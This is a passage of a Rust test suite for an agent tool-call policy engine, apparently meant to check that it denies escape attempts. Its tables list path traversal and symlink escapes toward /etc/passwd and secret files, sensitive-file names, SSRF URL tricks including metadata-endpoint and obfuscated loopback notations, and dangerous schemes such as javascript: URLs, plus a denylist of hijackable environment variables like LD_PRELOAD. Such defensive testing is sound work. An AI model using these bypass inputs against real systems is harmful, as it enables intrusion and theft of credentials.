//! Black-box adversarial suite for `codeward-policies` (public API only): table-driven escape
//! attempts (paths, symlinks, URLs and IP notations, env names, hidden payloads, secrets) and
//! the legitimate calls that must keep passing. Every table row names the expected reason code
//! (`allowed` or an error code); a failing row prints the input and the decision's explain line.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::{Path, PathBuf};

use codeward_policies::secrets::{self, FindingKind};
use codeward_policies::{
    Access, CallSource, MemFs, Outcome, PathResolver, PolicyContext, PolicyOptions, PolicySet,
    RawPolicyOptions, RealFs, ToolPolicy, ToolRequest, env, evaluate, net,
};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------------
// Fixtures
// ---------------------------------------------------------------------------------------------

/// The tree every path test runs on, relative to a base dir `B` (`/t` in memory, a tempdir on
/// disk): the project root is `B/root`.
enum Node {
    File(&'static str),
    Dir(&'static str),
    Link(&'static str, &'static str),
}

/// Symlink targets starting with `@` are absolute and get the base dir spliced in.
const TREE: &[Node] = &[
    Node::File("root/src/main.rs"),
    Node::File("root/README.md"),
    Node::File("root/dir with spaces/a b.txt"),
    Node::File("root/ünïcödé/файл.txt"),
    Node::File("root/.env"),
    Node::File("root/.ENV.production"),
    Node::File("root/.env.example"),
    Node::File("root/.env.local"),
    Node::File("root/config/.Env"),
    Node::File("root/keys/server.PEM"),
    Node::File("root/.ssh/config"),
    Node::File("root/.AWS/Credentials"),
    Node::File("root/deploy/prod.tfstate"),
    Node::File("root/%2e%2e/x"),
    Node::Dir("root/empty"),
    Node::Dir("root/.codeward/state"),
    Node::Dir("root/.codeward/tmp/call-a"),
    Node::Dir("root/.codeward/tmp/call-b"),
    Node::File("outside/secret.txt"),
    Node::File("outside/sub/deep.txt"),
    Node::File("root_evil/x"),
    Node::File("docs/a.md"),
    Node::File("docs/id_rsa"),
    Node::File("docs_evil/x"),
    Node::File("shared/x.txt"),
    Node::File("shared_evil/x.txt"),
    Node::File("glob/a.txt"),
    Node::File("glob/sub/b.txt"),
    Node::File("glob/.env.txt"),
    // symlinks
    Node::Link("root/link_out", "@outside"),
    Node::Link("root/link_rel_out", "../outside"),
    Node::Link("root/file_link", "@outside/secret.txt"),
    Node::Link("root/rel_file_link", "../outside/secret.txt"),
    Node::Link("root/chain1", "chain2"),
    Node::Link("root/chain2", "chain3"),
    Node::Link("root/chain3", "../outside"),
    Node::Link("root/loop1", "loop2"),
    Node::Link("root/loop2", "loop1"),
    Node::Link("root/self", "self"),
    Node::Link("root/dangling_out", "@nowhere/new.txt"),
    Node::Link("root/dangling_rel_out", "../nowhere/new.txt"),
    Node::Link("root/dangling_in", "newdir/new.txt"),
    Node::Link("root/mid/link", "@outside"),
    Node::Link("root/inlink", "src"),
    Node::Link("root/env_link", ".env"),
    Node::Link("root/env_abs_link", "@root/.env"),
    Node::Link("root/envdir_link", "config"),
    Node::Link("root/up", ".."),
    Node::Link("root/src/back", "../.."),
];

fn mem_fs(base: &str) -> MemFs {
    let mut m = MemFs::new();
    for n in TREE {
        match n {
            Node::File(p) => {
                m.file(format!("{base}/{p}"));
            }
            Node::Dir(p) => {
                m.dir(format!("{base}/{p}"));
            }
            Node::Link(p, t) => {
                let target = match t.strip_prefix('@') {
                    Some(rest) => format!("{base}/{rest}"),
                    None => (*t).to_owned(),
                };
                m.symlink(format!("{base}/{p}"), target);
            }
        }
    }
    m
}

fn real_fs() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    for n in TREE {
        match n {
            Node::File(p) => {
                let p = base.join(p);
                std::fs::create_dir_all(p.parent().unwrap()).unwrap();
                std::fs::write(&p, b"x").unwrap();
            }
            Node::Dir(p) => std::fs::create_dir_all(base.join(p)).unwrap(),
            Node::Link(p, t) => {
                let p = base.join(p);
                std::fs::create_dir_all(p.parent().unwrap()).unwrap();
                let target = match t.strip_prefix('@') {
                    Some(rest) => base.join(rest),
                    None => PathBuf::from(t),
                };
                std::os::unix::fs::symlink(target, p).unwrap();
            }
        }
    }
    (dir, base)
}

fn ctx(base: &Path) -> PolicyContext {
    PolicyContext {
        canonical_root: base.join("root"),
        given_root: base.join("root"),
        state_dir: Some(base.join("root/.codeward/state")),
        scratch_base: Some(base.join("root/.codeward/tmp")),
    }
}

fn opts(raw: Value) -> PolicyOptions {
    PolicyOptions::try_from(RawPolicyOptions::from_json(&raw).unwrap()).unwrap()
}

fn path_set(base: &Path) -> PolicySet {
    let b = base.display();
    let o = opts(json!({
        "outside_root_allowlist": [
            {"path": format!("{b}/docs"), "reason_code": "docs"},
            {"path": format!("{b}/shared"), "reason_code": "shared", "access": "read_write"},
            {"pattern": format!("{b}/glob/*.txt"), "reason_code": "glob"},
        ],
    }));
    PolicySet::compile(&o, ctx(base)).unwrap()
}

fn fs_read() -> ToolPolicy {
    ToolPolicy::compile(
        "fs.read",
        &json!({"type": "object", "x-codeward-complete": true, "additionalProperties": false,
                "properties": {"path": {"type": "string", "x-codeward": "path"}},
                "required": ["path"]}),
        true,
        false,
    )
    .unwrap()
}

fn fs_write() -> ToolPolicy {
    ToolPolicy::compile(
        "fs.write",
        &json!({"type": "object", "x-codeward-complete": true, "additionalProperties": false,
                "properties": {
                    "path": {"type": "string", "x-codeward": "path", "x-codeward-access": "write"},
                    "content": {"type": "string"}},
                "required": ["path", "content"]}),
        true,
        false,
    )
    .unwrap()
}

fn http_fetch() -> ToolPolicy {
    ToolPolicy::compile(
        "http.fetch",
        &json!({"type": "object", "x-codeward-complete": true,
                "properties": {"url": {"type": "string", "x-codeward": "url"},
                               "body": {"type": "string"}},
                "required": ["url"]}),
        true,
        true,
    )
    .unwrap()
}

/// An asset tool: untrusted schema, heuristic deep scan.
fn asset_tool(network: bool) -> ToolPolicy {
    ToolPolicy::compile("asset.tool", &json!({"type": "object"}), false, network).unwrap()
}

fn command_run() -> ToolPolicy {
    ToolPolicy::compile(
        "command.run",
        &json!({"type": "object", "x-codeward-complete": true, "additionalProperties": false,
                "properties": {
                    "argv": {"type": "array", "items": {"type": "string"}, "x-codeward": "command"},
                    "command": {"type": "string", "x-codeward": "command"},
                    "cwd": {"type": "string", "x-codeward": "path"},
                    "env": {"x-codeward": "env"}}}),
        true,
        // not network-capable here: the egress switch has its own test
        false,
    )
    .unwrap()
}

fn code(set: &PolicySet, tool: &ToolPolicy, args: &Value, fs: &dyn PathResolver) -> String {
    evaluate(set, &ToolRequest::new(tool, args), fs)
        .reason_code
        .to_owned()
}

/// Runs a table of `(args, expected code)` and reports every mismatch at once.
fn run_table(
    what: &str,
    set: &PolicySet,
    tool: &ToolPolicy,
    fs: &dyn PathResolver,
    rows: &[(Value, &str)],
) {
    let mut bad = Vec::new();
    for (args, want) in rows {
        let d = evaluate(set, &ToolRequest::new(tool, args), fs);
        if d.reason_code != *want {
            bad.push(format!(
                "  {args}: want {want}, got {} ({})",
                d.reason_code, d.explain
            ));
        }
        // A deny is always a typed error with a rule; an allow never carries one.
        assert_eq!(d.decision == Outcome::Allow, d.error.is_none(), "{args}");
    }
    assert!(
        bad.is_empty(),
        "{what}: {} mismatch(es)\n{}",
        bad.len(),
        bad.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Paths
// ---------------------------------------------------------------------------------------------

/// `(raw path, access, expected)`; `{B}` is the base dir.
const PATH_CASES: &[(&str, Access, &str)] = &[
    // legitimate
    ("src/main.rs", Access::Read, "allowed"),
    ("./src/main.rs", Access::Read, "allowed"),
    ("src//main.rs", Access::Read, "allowed"),
    ("src/./main.rs", Access::Read, "allowed"),
    ("src/main.rs/", Access::Read, "allowed"),
    ("README.md", Access::Read, "allowed"),
    ("", Access::Read, "allowed"),
    (".", Access::Read, "allowed"),
    ("{B}/root", Access::Read, "allowed"),
    ("{B}/root/", Access::Read, "allowed"),
    ("{B}/root/src/main.rs", Access::Read, "allowed"),
    ("src/../README.md", Access::Read, "allowed"),
    ("dir with spaces/a b.txt", Access::Read, "allowed"),
    ("ünïcödé/файл.txt", Access::Read, "allowed"),
    ("src/new_file.rs", Access::Write, "allowed"),
    ("empty/new.txt", Access::Write, "allowed"),
    ("newdir/sub/new.txt", Access::Write, "allowed"),
    ("dangling_in", Access::Write, "allowed"),
    ("inlink/main.rs", Access::Read, "allowed"),
    (".env.example", Access::Read, "allowed"),
    // taken literally (SPEC §5.4 step 1: no percent-decoding, no `~` expansion, `\` ordinary)
    ("%2e%2e/x", Access::Read, "allowed"),
    ("%2e%2e/%2e%2e/etc/passwd", Access::Read, "allowed"),
    ("..%2f..%2fetc%2fpasswd", Access::Read, "allowed"),
    ("~", Access::Read, "allowed"),
    ("~/notes.txt", Access::Read, "allowed"),
    ("..\\..\\etc\\passwd", Access::Read, "allowed"),
    ("\u{2025}/\u{2025}/etc/passwd", Access::Read, "allowed"),
    (
        "\u{ff0e}\u{ff0e}/\u{ff0e}\u{ff0e}/etc/passwd",
        Access::Read,
        "allowed",
    ),
    ("...", Access::Read, "allowed"),
    ("....//....//etc", Access::Read, "allowed"),
    // traversal and absolute paths
    ("..", Access::Read, "outside_root"),
    ("../", Access::Read, "outside_root"),
    (
        "../../../../../../../../etc/passwd",
        Access::Read,
        "outside_root",
    ),
    ("src/../../outside/secret.txt", Access::Read, "outside_root"),
    ("./../outside/secret.txt", Access::Read, "outside_root"),
    (".//..//outside/secret.txt", Access::Read, "outside_root"),
    ("/etc/passwd", Access::Read, "outside_root"),
    ("//etc/passwd", Access::Read, "outside_root"),
    ("/", Access::Read, "outside_root"),
    ("{B}", Access::Read, "outside_root"),
    ("{B}/root_evil/x", Access::Read, "outside_root"),
    ("{B}/root/../root_evil/x", Access::Read, "outside_root"),
    ("../root_evil/x", Access::Read, "outside_root"),
    ("{B}/root/../../../../tmp", Access::Read, "outside_root"),
    // symlinks
    ("link_out", Access::Read, "outside_root"),
    ("link_out/secret.txt", Access::Read, "outside_root"),
    ("link_out/sub/deep.txt", Access::Read, "outside_root"),
    ("link_rel_out/secret.txt", Access::Read, "outside_root"),
    ("file_link", Access::Read, "outside_root"),
    ("rel_file_link", Access::Read, "outside_root"),
    ("chain1/secret.txt", Access::Read, "outside_root"),
    ("mid/link/secret.txt", Access::Read, "outside_root"),
    ("link_out/../src/main.rs", Access::Read, "outside_root"),
    ("up/outside/secret.txt", Access::Read, "outside_root"),
    ("src/back/outside/secret.txt", Access::Read, "outside_root"),
    (
        "inlink/../../outside/secret.txt",
        Access::Read,
        "outside_root",
    ),
    ("dangling_out", Access::Write, "outside_root"),
    ("dangling_out", Access::Read, "outside_root"),
    ("dangling_rel_out", Access::Write, "outside_root"),
    ("loop1", Access::Read, "invalid_path"),
    ("loop1/x", Access::Write, "invalid_path"),
    ("self", Access::Read, "invalid_path"),
    // sensitive (ASCII case-insensitive, every form)
    (".env", Access::Read, "sensitive_path_denied"),
    ("./.env", Access::Read, "sensitive_path_denied"),
    ("src/../.env", Access::Read, "sensitive_path_denied"),
    (".ENV", Access::Read, "sensitive_path_denied"),
    (".ENV.production", Access::Read, "sensitive_path_denied"),
    (".env.local", Access::Read, "sensitive_path_denied"),
    ("config/.Env", Access::Read, "sensitive_path_denied"),
    ("envdir_link/.Env", Access::Read, "sensitive_path_denied"),
    (".env/inner.txt", Access::Write, "sensitive_path_denied"),
    ("env_link", Access::Read, "sensitive_path_denied"),
    ("env_abs_link", Access::Read, "sensitive_path_denied"),
    ("keys/server.PEM", Access::Read, "sensitive_path_denied"),
    ("id_rsa", Access::Write, "sensitive_path_denied"),
    ("ID_RSA", Access::Read, "sensitive_path_denied"),
    (".ssh/config", Access::Read, "sensitive_path_denied"),
    (".AWS/Credentials", Access::Read, "sensitive_path_denied"),
    ("deploy/prod.tfstate", Access::Read, "sensitive_path_denied"),
    (
        "service-account-prod.json",
        Access::Read,
        "sensitive_path_denied",
    ),
    ("~/.ssh/id_ed25519", Access::Read, "sensitive_path_denied"),
    (".bash_history", Access::Read, "sensitive_path_denied"),
    (
        "a/b/.git-credentials",
        Access::Read,
        "sensitive_path_denied",
    ),
    // state dir and other calls' scratch dirs
    (
        ".codeward/state/journal.db",
        Access::Read,
        "sensitive_path_denied",
    ),
    (
        "{B}/root/.codeward/state",
        Access::Read,
        "sensitive_path_denied",
    ),
    (
        ".codeward/tmp/call-b/x",
        Access::Write,
        "sensitive_path_denied",
    ),
    // outside-root exceptions
    ("{B}/docs/a.md", Access::Read, "allowed"),
    ("{B}/docs", Access::Read, "allowed"),
    ("{B}/docs/a.md", Access::Write, "outside_root"),
    ("{B}/docs/id_rsa", Access::Read, "sensitive_path_denied"),
    (
        "{B}/docs/../outside/secret.txt",
        Access::Read,
        "outside_root",
    ),
    ("{B}/docs_evil/x", Access::Read, "outside_root"),
    ("../docs/a.md", Access::Read, "allowed"),
    ("{B}/shared/x.txt", Access::Write, "allowed"),
    ("{B}/shared/new.txt", Access::Write, "allowed"),
    ("{B}/shared_evil/x.txt", Access::Read, "outside_root"),
    ("{B}/glob/a.txt", Access::Read, "allowed"),
    ("{B}/glob/sub/b.txt", Access::Read, "outside_root"),
    ("{B}/glob/a.txt", Access::Write, "outside_root"),
    ("{B}/glob/.env.txt", Access::Read, "sensitive_path_denied"),
];

fn check_path_table(set: &PolicySet, base: &Path, fs: &dyn PathResolver, what: &str) {
    let b = base.display().to_string();
    let mut bad = Vec::new();
    for (raw, access, want) in PATH_CASES {
        let raw = raw.replace("{B}", &b);
        let got = match set.check_path(&raw, *access, None, None, fs) {
            Ok(_) => "allowed".to_owned(),
            Err(e) => e.code().to_owned(),
        };
        // evaluate must agree with check_path.
        let tool = if *access == Access::Write {
            fs_write()
        } else {
            fs_read()
        };
        let args = json!({"path": raw, "content": "x"});
        let args = if *access == Access::Write {
            args
        } else {
            json!({"path": raw})
        };
        let via_eval = code(set, &tool, &args, fs);
        if got != *want || via_eval != *want {
            bad.push(format!(
                "  {raw:?} {access:?}: want {want}, check_path {got}, evaluate {via_eval}"
            ));
        }
    }
    assert!(
        bad.is_empty(),
        "{what}: {} mismatch(es)\n{}",
        bad.len(),
        bad.join("\n")
    );
}

#[test]
fn paths_memfs() {
    let base = Path::new("/t");
    check_path_table(&path_set(base), base, &mem_fs("/t"), "memfs");
}

#[test]
fn paths_realfs() {
    let (_dir, base) = real_fs();
    check_path_table(&path_set(&base), &base, &RealFs, "realfs");
}

#[test]
fn path_limits() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    let long_comp = "a".repeat(256);
    let ok_comp = "a".repeat(255);
    let long_path = "a/".repeat(2049);
    let cases: Vec<(String, &str)> = vec![
        ("src/\0main.rs".to_owned(), "invalid_path"),
        ("\0".to_owned(), "invalid_path"),
        ("/t/root/\0/../../etc".to_owned(), "invalid_path"),
        (long_comp, "invalid_path"),
        (format!("new/{ok_comp}"), "allowed"),
        (long_path, "invalid_path"),
    ];
    for (raw, want) in cases {
        let got = match set.check_path(&raw, Access::Write, None, None, &fs) {
            Ok(_) => "allowed",
            Err(e) => e.code(),
        };
        assert_eq!(got, want, "{:?}", raw.get(..40));
    }
}

#[test]
fn sensitive_allowlist_override() {
    let base = Path::new("/t");
    let fs = mem_fs("/t");
    let o = opts(json!({"sensitive_path_allowlist": [".env.local"],
                        "sensitive_path_denylist": ["secrets/**", "*.SECRET"]}));
    let set = PolicySet::compile(&o, ctx(base)).unwrap();
    let read = |p: &str| match set.check_path(p, Access::Read, None, None, &fs) {
        Ok(_) => "allowed",
        Err(e) => e.code(),
    };
    assert_eq!(read(".env.local"), "allowed");
    assert_eq!(read(".ENV.LOCAL"), "allowed");
    assert_eq!(read(".env"), "sensitive_path_denied");
    // the default template allowlist is replaced, not merged
    assert_eq!(read(".env.example"), "sensitive_path_denied");
    assert_eq!(read("secrets/a/b.txt"), "sensitive_path_denied");
    assert_eq!(read("x/db.secret"), "sensitive_path_denied");
    assert_eq!(read("src/main.rs"), "allowed");
}

/// SPEC §5.5: "a `sensitive_path_allowlist` match exempts the path" — the whole path, even
/// when another pattern (here `.ssh/*`) also matches it. Pinned so a change is deliberate.
#[test]
fn sensitive_allowlist_match_exempts_the_path() {
    let base = Path::new("/t");
    let fs = mem_fs("/t");
    let set = path_set(base);
    for p in [".ssh/.env.example", "a/.env.sample"] {
        assert!(
            set.check_path(p, Access::Read, None, None, &fs).is_ok(),
            "{p}"
        );
    }
    // …but never through a link: every form is judged, and `.env` itself is not listed.
    assert!(
        set.check_path("env_link", Access::Read, None, None, &fs)
            .is_err()
    );
}

#[test]
fn exceptions_are_reported() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    let d = evaluate(
        &set,
        &ToolRequest::new(&fs_read(), &json!({"path": "/t/docs/a.md"})),
        &fs,
    );
    assert_eq!(d.decision, Outcome::Allow);
    assert_eq!(d.exceptions_used, vec!["docs".to_owned()]);
}

// ---------------------------------------------------------------------------------------------
// URLs and hosts
// ---------------------------------------------------------------------------------------------

fn net_set() -> PolicySet {
    let o = opts(json!({
        "network_egress_policy": "allow",
        "network_allowlist": ["allowed.com", "=exact.org", "api.svc.io:8443", "10.1.2.3",
                              "bücher.example"],
    }));
    PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap()
}

const BLOCKED: &str = "network_endpoint_denied/blocked_range";
const NOT_LISTED: &str = "network_endpoint_denied/not_in_allowlist";
const AMBIGUOUS: &str = "network_endpoint_denied/ambiguous_authority";
const INVALID: &str = "network_endpoint_denied/invalid_host";
const PROTO: &str = "network_protocol_denied";

const URL_CASES: &[(&str, &str)] = &[
    // legitimate
    ("https://allowed.com/", "allowed"),
    ("https://allowed.com", "allowed"),
    (
        "https://api.allowed.com/v1/items?page=2&q=a%20b#frag",
        "allowed",
    ),
    ("https://allowed.com:8443/x", "allowed"),
    ("HTTPS://ALLOWED.COM/", "allowed"),
    ("HtTp://Allowed.Com/", "allowed"),
    ("https://allowed.com./", "allowed"),
    ("//allowed.com/x", "allowed"),
    ("https://user:pw@allowed.com/", "allowed"),
    ("https://allowed\u{3002}com/", "allowed"),
    ("https://exact.org/x", "allowed"),
    ("https://api.svc.io:8443/", "allowed"),
    ("http://10.1.2.3/", "allowed"),
    ("http://10.1.2.3:9000/", "allowed"),
    ("https://xn--bcher-kva.example/", "allowed"),
    ("https://BÜCHER.example/", "allowed"),
    ("  https://allowed.com/  ", "allowed"),
    // suffix / subdomain confusion
    ("https://evilallowed.com/", NOT_LISTED),
    ("https://allowed.com.evil.test/", NOT_LISTED),
    ("https://allowed.co/", NOT_LISTED),
    ("https://sub.exact.org/", NOT_LISTED),
    ("https://api.svc.io/", NOT_LISTED),
    ("https://api.svc.io:443/", NOT_LISTED),
    ("https://8.8.8.8/", NOT_LISTED),
    ("https://\u{0430}llowed.com/", NOT_LISTED),
    ("https://xn--llowed-3fg.com/", NOT_LISTED),
    // userinfo / fragment / query tricks
    ("http://allowed.com@evil.com/", NOT_LISTED),
    ("http://allowed.com:443@evil.com/", NOT_LISTED),
    ("http://a@allowed.com@evil.com/", NOT_LISTED),
    ("http://evil.com#@allowed.com", NOT_LISTED),
    ("http://evil.com?@allowed.com/", NOT_LISTED),
    ("http://evil.com/@allowed.com/", NOT_LISTED),
    ("http://evil.com\\@allowed.com/", AMBIGUOUS),
    ("http://allowed.com\\@evil.com/", AMBIGUOUS),
    ("http://allowed.com\\.evil.com/", AMBIGUOUS),
    ("http://allow\ted.com/", AMBIGUOUS),
    ("http://allowed.com\n.evil.com/", AMBIGUOUS),
    ("http://allowed.com\r\n@evil.com/", AMBIGUOUS),
    ("http://allowed .com/", AMBIGUOUS),
    ("http://allowed.com%5c@evil.com/", AMBIGUOUS),
    ("http://evil.com%0a.allowed.com/", AMBIGUOUS),
    ("http://allowed.com%2540evil.com/", INVALID),
    ("http:///", INVALID),
    ("http://", INVALID),
    ("http://@/", INVALID),
    ("http://:80/", INVALID),
    // loopback in every notation
    ("http://127.0.0.1/", BLOCKED),
    ("http://127.0.0.1:8080/", BLOCKED),
    ("http://127.0.0.1./", BLOCKED),
    ("http://2130706433/", BLOCKED),
    ("http://0177.0.0.1/", BLOCKED),
    ("http://0177.0.0.01/", BLOCKED),
    ("http://0x7f.1/", BLOCKED),
    ("http://0x7F.0.0.1/", BLOCKED),
    ("http://0x7f000001/", BLOCKED),
    ("http://017700000001/", BLOCKED),
    ("http://127.1/", BLOCKED),
    ("http://127.0.1/", BLOCKED),
    ("http://0177.1/", BLOCKED),
    ("http://127.000.000.001/", BLOCKED),
    ("http://%31%32%37.0.0.1/", BLOCKED),
    ("http://\u{2460}\u{2461}\u{2466}.0.0.1/", BLOCKED),
    ("http://[::1]/", BLOCKED),
    ("http://[::1]:80/", BLOCKED),
    ("http://[0:0:0:0:0:0:0:1]/", BLOCKED),
    ("http://[::ffff:127.0.0.1]/", BLOCKED),
    ("http://[::ffff:7f00:1]/", BLOCKED),
    ("http://[::127.0.0.1]/", BLOCKED),
    ("http://[::ffff:0:127.0.0.1]/", BLOCKED),
    ("http://[64:ff9b::127.0.0.1]/", BLOCKED),
    ("http://[64:ff9b::7f00:1]/", BLOCKED),
    ("http://[2002:7f00:1::]/", BLOCKED),
    ("http://localhost/", BLOCKED),
    ("http://localhost./", BLOCKED),
    ("http://LOCALHOST/", BLOCKED),
    ("http://LocalHost:3000/", BLOCKED),
    ("http://api.localhost/", BLOCKED),
    (
        "http://\u{24db}\u{24de}\u{24d2}\u{24d0}\u{24db}\u{24d7}\u{24de}\u{24e2}\u{24e3}/",
        BLOCKED,
    ),
    // metadata, private, CGNAT, unspecified
    ("http://169.254.169.254/latest/meta-data/", BLOCKED),
    ("http://0xa9.0xfe.0xa9.0xfe/", BLOCKED),
    ("http://0xa9fea9fe/", BLOCKED),
    ("http://2852039166/", BLOCKED),
    ("http://0251.0376.0251.0376/", BLOCKED),
    ("http://169.254.43518/", BLOCKED),
    ("http://[::ffff:a9fe:a9fe]/", BLOCKED),
    ("http://[::ffff:169.254.169.254]/", BLOCKED),
    ("http://[64:ff9b::a9fe:a9fe]/", BLOCKED),
    ("http://metadata.google.internal/", BLOCKED),
    ("http://METADATA.google.internal./", BLOCKED),
    ("http://10.0.0.1/", BLOCKED),
    ("http://10.1.2.4/", BLOCKED),
    ("http://012.0.0.1/", BLOCKED),
    ("http://0xa.1/", BLOCKED),
    ("http://167772161/", BLOCKED),
    ("http://100.64.0.1/", BLOCKED),
    ("http://100.127.255.255/", BLOCKED),
    ("http://0x64.0x40.0.1/", BLOCKED),
    ("http://[::ffff:6440:1]/", BLOCKED),
    ("http://172.16.0.1/", BLOCKED),
    ("http://172.31.255.255/", BLOCKED),
    ("http://192.168.1.1/", BLOCKED),
    ("http://192.0.0.1/", BLOCKED),
    ("http://198.18.0.1/", BLOCKED),
    ("http://224.0.0.1/", BLOCKED),
    ("http://255.255.255.255/", BLOCKED),
    ("http://0/", BLOCKED),
    ("http://0.0.0.0/", BLOCKED),
    ("http://[::]/", BLOCKED),
    // zone ids are not valid in WHATWG URLs: refused as an invalid host (still a deny)
    ("http://[fe80::1%25eth0]/", INVALID),
    ("http://[fe80::1]/", BLOCKED),
    ("http://[fd00::1]/", BLOCKED),
    ("http://[fc00::1]/", BLOCKED),
    ("http://[ff02::1]/", BLOCKED),
    ("//127.0.0.1/", BLOCKED),
    ("http://allowed.com@127.0.0.1/", BLOCKED),
    // schemes
    ("file:///etc/passwd", PROTO),
    ("FILE:///etc/passwd", PROTO),
    ("gopher://allowed.com/", PROTO),
    ("ftp://allowed.com/", PROTO),
    ("ws://allowed.com/", PROTO),
    ("javascript:alert(1)", PROTO),
    ("JavaScript://allowed.com/%0aalert(1)", PROTO),
    ("data:text/html,<script>", PROTO),
    ("mailto:a@allowed.com", PROTO),
    ("dict://127.0.0.1:11211/", PROTO),
];

fn url_code(r: Result<codeward_policies::CheckedUrl, codeward_policies::PolicyError>) -> String {
    match r {
        Ok(_) => "allowed".to_owned(),
        Err(e) => match e.details().get("detail").and_then(Value::as_str) {
            Some(d) => format!("{}/{d}", e.code()),
            None => e.code().to_owned(),
        },
    }
}

#[test]
fn urls() {
    let set = net_set();
    let fetch = http_fetch();
    let fs = MemFs::new();
    let mut bad = Vec::new();
    for (url, want) in URL_CASES {
        let got = url_code(set.check_url(url));
        // evaluate agrees on the code (the detail lives in the error).
        let via_eval = code(&set, &fetch, &json!({"url": url}), &fs);
        let want_code = want.split('/').next().unwrap_or(want);
        if got != *want || via_eval != want_code {
            bad.push(format!(
                "  {url:?}: want {want}, check_url {got}, evaluate {via_eval}"
            ));
        }
    }
    assert!(
        bad.is_empty(),
        "{} mismatch(es)\n{}",
        bad.len(),
        bad.join("\n")
    );
}

#[test]
fn hosts() {
    let set = net_set();
    let cases: &[(&str, &str)] = &[
        ("allowed.com", "allowed"),
        ("api.allowed.com", "allowed"),
        ("allowed.com:8443", "allowed"),
        ("ALLOWED.COM.", "allowed"),
        ("api.svc.io:8443", "allowed"),
        ("evilallowed.com", NOT_LISTED),
        ("allowed.com@evil.com", NOT_LISTED),
        ("localhost", BLOCKED),
        ("localhost:8080", BLOCKED),
        ("127.1", BLOCKED),
        ("2130706433", BLOCKED),
        ("0x7f.1:22", BLOCKED),
        ("[::1]", BLOCKED),
        ("[::1]:22", BLOCKED),
        ("::1", BLOCKED),
        ("::ffff:127.0.0.1", BLOCKED),
        ("169.254.169.254", BLOCKED),
        ("metadata.google.internal", BLOCKED),
        ("allowed.com\\@evil.com", AMBIGUOUS),
        ("allowed.com evil.com", AMBIGUOUS),
        ("", INVALID),
    ];
    let mut bad = Vec::new();
    for (h, want) in cases {
        let got = url_code(set.check_host_str(h));
        if got != *want {
            bad.push(format!("  {h:?}: want {want}, got {got}"));
        }
    }
    assert!(
        bad.is_empty(),
        "{} mismatch(es)\n{}",
        bad.len(),
        bad.join("\n")
    );
}

#[test]
fn ip_literals_and_dns_answers() {
    let set = net_set();
    for s in [
        "127.0.0.1",
        "0177.0.0.1",
        "0x7f.1",
        "127.1",
        "2130706433",
        "::1",
        "[::1]",
        "::ffff:127.0.0.1",
        "::ffff:7f00:1",
        "0:0:0:0:0:0:0:1",
        "::127.0.0.1",
        "64:ff9b::7f00:1",
        "169.254.169.254",
        "100.64.0.1",
        "10.0.0.1",
        "fe80::1%eth0",
    ] {
        let ip = net::parse_ip_literal(s).unwrap_or_else(|| panic!("{s} should parse"));
        assert!(net::is_blocked_ip(ip), "{s} -> {ip} should be blocked");
        assert!(set.check_ip(ip).is_err(), "{s}");
    }
    for s in ["8.8.8.8", "2606:4700::1111", "1.1.1.1"] {
        let ip = net::parse_ip_literal(s).unwrap();
        assert!(!net::is_blocked_ip(ip), "{s}");
        assert!(set.check_ip(ip).is_ok(), "{s}");
    }
    // The IP allowlist entry covers exactly its address.
    assert!(set.check_ip("10.1.2.3".parse().unwrap()).is_ok());
    assert!(set.check_ip("::ffff:10.1.2.3".parse().unwrap()).is_ok());
    assert!(set.check_ip("10.1.2.4".parse().unwrap()).is_err());
    for s in ["256.0.0.1", "1.2.3.4.5", "0x", "1..2", "", "::g"] {
        assert!(
            net::parse_ip_literal(s).is_none_or(|ip| ip.to_string() != s),
            "{s}"
        );
    }
}

#[test]
fn empty_allowlist_allows_no_host_and_egress_deny_blocks() {
    let o = opts(json!({"network_egress_policy": "allow", "network_allowlist": []}));
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    assert!(set.check_url("https://example.com/").is_err());
    let o = opts(json!({"network_egress_policy": "allow", "network_allowlist": ["*"]}));
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    assert!(set.check_url("https://example.com/").is_ok());
    assert!(set.check_url("http://127.0.0.1/").is_err());
    assert!(set.check_url("http://0x7f.1/").is_err());
    let set =
        PolicySet::compile(&PolicyOptions::default(), PolicyContext::new("/srv/app")).unwrap();
    let d = code(
        &set,
        &http_fetch(),
        &json!({"url": "https://example.com"}),
        &MemFs::new(),
    );
    assert_eq!(d, "network_denied");
}

// ---------------------------------------------------------------------------------------------
// Env
// ---------------------------------------------------------------------------------------------

const DENIED_ENV: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "PATH",
    "HOME",
    "SHELL",
    "IFS",
    "ENV",
    "BASH_ENV",
    "BASH_FUNC_x",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PERL5LIB",
    "PERL5OPT",
    "PERLLIB",
    "RUBYLIB",
    "RUBYOPT",
    "NODE_OPTIONS",
    "NODE_PATH",
    "NPM_CONFIG_PREFIX",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_EXEC_PATH",
    "GIT_CONFIG",
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_COUNT",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "GIT_PAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "GLIBC_TUNABLES",
    "GCONV_PATH",
    "LOCPATH",
    "OPENSSL_CONF",
    "OPENSSL_ENGINES",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "TMPDIR",
    "XDG_CONFIG_HOME",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
];

fn case_variants(s: &str) -> Vec<String> {
    let lower = s.to_ascii_lowercase();
    let alt: String = s
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
